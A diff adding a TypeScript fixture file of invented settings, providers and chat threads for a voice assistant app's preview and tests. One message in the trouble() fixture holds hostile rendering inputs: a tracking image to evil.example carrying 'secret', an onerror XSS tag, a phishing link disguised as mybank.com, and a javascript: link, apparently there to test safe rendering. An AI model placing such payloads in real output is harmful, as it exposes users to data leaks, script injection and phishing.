@@ -1,0 +1,174 @@
+/**
+ * Made-up content for the preview, the gallery and tests. Never part of the app.
+ */
+import type { BlockView, ConversationSummary, MessageView, ProviderView, Settings, Snapshot, VoiceView } from "../generated";
+
+export const defaultSettings: Settings = {
+  language: "system",
+  theme: "system",
+  text_scale: 1,
+  provider: "openai",
+  input_device: null,
+  output_device: null,
+  audio_block: 960,
+  warm_microphone: false,
+  talk_key: "auto",
+  reasoning: "auto",
+  show_figures: true,
+};
+
+export const idleVoice: VoiceView = {
+  state: "idle",
+  for_ms: 0,
+  muted: false,
+  locked: false,
+  conversation_id: null,
+  in_call: false,
+  kept: null,
+  error: null,
+};
+
+export const openai: ProviderView = {
+  id: "openai",
+  name: "OpenAI",
+  base_url: "https://api.openai.com/v1",
+  host: "api.openai.com",
+  local: false,
+  model: "gpt-5.2",
+  builtin: true,
+  key: "missing",
+};
+
+export const ollama: ProviderView = {
+  id: "ollama",
+  name: "Ollama",
+  base_url: "http://localhost:11434/v1",
+  host: "localhost:11434",
+  local: true,
+  model: "qwen3:8b",
+  builtin: false,
+  key: "missing",
+};
+
+export function emptySnapshot(): Snapshot {
+  return {
+    next_event: 0,
+    version: "0.1.0",
+    data_folder: "~/.local/share/parlance",
+    trouble: null,
+    settings: { ...defaultSettings },
+    providers: [{ ...openai, model: "" }],
+    keyring: { state: "ready", store: "GNOME keyring" },
+    conversations: [],
+    conversation_count: 0,
+    voice: { ...idleVoice },
+    notices: [],
+  };
+}
+
+const minute = 60_000;
+const day = 24 * 60 * minute;
+
+export function summaries(now: number): ConversationSummary[] {
+  const line = (id: string, title: string, ago: number, spoken = false) => ({ id, title, updated_ms: now - ago, spoken });
+  return [
+    line("panels", "Two panels on the balcony", 2 * minute),
+    line("train", "Night train to Vienna", 50 * minute, true),
+    line("bread", "Why bread needs salt", 70 * minute),
+    line("letter", "Letter to the landlord", 1.2 * day),
+    line("spanish", "", 3 * day, true),
+    line("regex", "Regex for invoice numbers", 4 * day),
+    line("reading", "Reading list: attention", 40 * day),
+  ];
+}
+
+export function message(part: Partial<MessageView> & Pick<MessageView, "id" | "author">): MessageView {
+  return {
+    conversation_id: "panels",
+    name: part.author === "you" ? "" : "qwen3:8b",
+    blocks: [],
+    status: "complete",
+    error: null,
+    created_ms: Date.now() - 2 * minute,
+    spoken: null,
+    figures: null,
+    ...part,
+  };
+}
+
+const text = (words: string): BlockView => ({ type: "text", text: words });
+
+export const answer = `About **41 kWh**. The railing is tilted 70° and loses the sun after four; last October had 71 kWh/m² on such a face, see [the measurements](https://example.org/sun).
+
+| Month | Sun, kWh/m² | Two panels, kWh | Saved |
+|---|--:|--:|--:|
+| September | 98.2 | 57 | € 18 |
+| October | 71.4 | **41** | € 13 |
+| November | 38.0 | 22 | € 7 |
+
+\`\`\`python
+def yield_kwh(sun, area=4.0, eff=0.21, loss=0.32):
+    return sun * area * eff * (1 - loss)  # shade and heat
+
+yield_kwh(71.4)  # 40.8
+\`\`\`
+
+1. Tilt and direction are in the irradiance already.
+2. What remains is *shade*: count it \`once\`.
+
+> Measured on the spot, not computed.
+`;
+
+export const reasoning =
+  "The railing faces south-west. Typical ready-made balcony sets lose 14 % to cable, inverter and heat. A 70° tilt is already in the irradiance figure, so it must not be counted twice. What remains is shade: the sun is gone after four, which in October is about one and a half hours of weak light.";
+
+/** A thread that shows every kind of block. */
+export function thread(): MessageView[] {
+  return [
+    message({
+      id: "q1",
+      author: "you",
+      blocks: [text("How much would two panels on my balcony give me in October? The railing faces south-west.")],
+    }),
+    message({
+      id: "a1",
+      author: "they",
+      blocks: [
+        { type: "thinking", text: reasoning, ms: 12_300 },
+        { type: "tool_call", id: "t1", name: "sun_hours", arguments: "{\"at\":\"48.21, 16.37\",\"month\":\"2025-10\"}" },
+        { type: "tool_result", id: "t1", name: "sun_hours", output: "{ \"kwh_per_m2\": 71.4, \"days\": 31, \"tilt\": 70 }" },
+        text(answer),
+      ],
+      figures: { input_tokens: 1204, output_tokens: 318, first_word_ms: 900 },
+    }),
+    message({ id: "q2", author: "you", blocks: [{ type: "audio", media_id: "m1", ms: 3200 }], spoken: { ms: 3200, heard_ms: null, first_sound_ms: null } }),
+    message({
+      id: "a2",
+      author: "they",
+      name: "Echo",
+      blocks: [{ type: "audio", media_id: "m2", ms: 3200 }],
+      spoken: { ms: 3200, heard_ms: 2100, first_sound_ms: 84 },
+    }),
+    message({ id: "q3", author: "you", blocks: [text("Is 32 % loss fair for a railing like that?")] }),
+    message({ id: "a3", author: "they", status: "stopped", blocks: [text("For a railing in the shade of a tree it is")] }),
+  ];
+}
+
+/** Every way an answer can end badly, and what cannot be drawn. */
+export function trouble(): MessageView[] {
+  const error = { provider: "OpenAI", host: "api.openai.com", model: "gpt-5.2", status: null, seconds: null, details: null };
+  return [
+    message({ id: "t1", author: "you", blocks: [text("Why does bread need salt?")] }),
+    message({ id: "t2", author: "they", status: "cut", blocks: [text("Bread without salt rises faster and tastes of")], error: { ...error, code: "cut_off" } }),
+    message({ id: "t3", author: "they", status: "failed", error: { ...error, code: "rate_limit", seconds: 20, status: "429", details: "Rate limit reached for requests" } }),
+    message({
+      id: "t4",
+      author: "they",
+      blocks: [
+        text("A picture: ![a railing](https://evil.example/track?q=secret)\n\nRaw: <img src=x onerror=alert(1)>\n\nA link: [mybank.com](https://evil.example/login) and [a script](javascript:alert(1))"),
+        { type: "other", kind: "image" },
+      ],
+    }),
+    message({ id: "t5", author: "they", status: "failed", error: { ...error, code: "key_refused", status: "401", details: "Incorrect API key provided" } }),
+  ];
+}
